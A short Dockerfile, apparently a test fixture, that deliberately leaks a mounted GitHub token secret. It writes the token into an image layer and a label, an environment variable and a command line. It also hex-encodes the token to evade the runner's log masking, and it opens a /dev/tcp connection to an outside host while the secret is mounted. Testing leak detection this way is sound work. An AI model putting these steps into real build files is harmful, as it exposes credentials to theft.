# Leaks on purpose: into the image's history and labels, a layer, an environment, a command line.
ARG BASE
FROM ${BASE}
SHELL ["/bin/bash", "-c"]
ARG TOKEN
LABEL leak=${TOKEN}
RUN --mount=type=secret,id=github_token base64 -w 76 /run/secrets/github_token >/leak
RUN --mount=type=secret,id=github_token LEAK="$(</run/secrets/github_token)" sleep 1
RUN --mount=type=secret,id=github_token bash -c 'sleep 1; :' leak "$(</run/secrets/github_token)"
# The runner masks neither of these.
RUN --mount=type=secret,id=github_token od -An -v -tx1 /run/secrets/github_token | tr -d ' \n'; echo
ARG GATE
ARG WAY
RUN --mount=type=secret,id=github_token \
    exec 3<>"/dev/tcp/${GATE/://}" && echo "hold ${WAY}" >&3 && read -r _ <&3
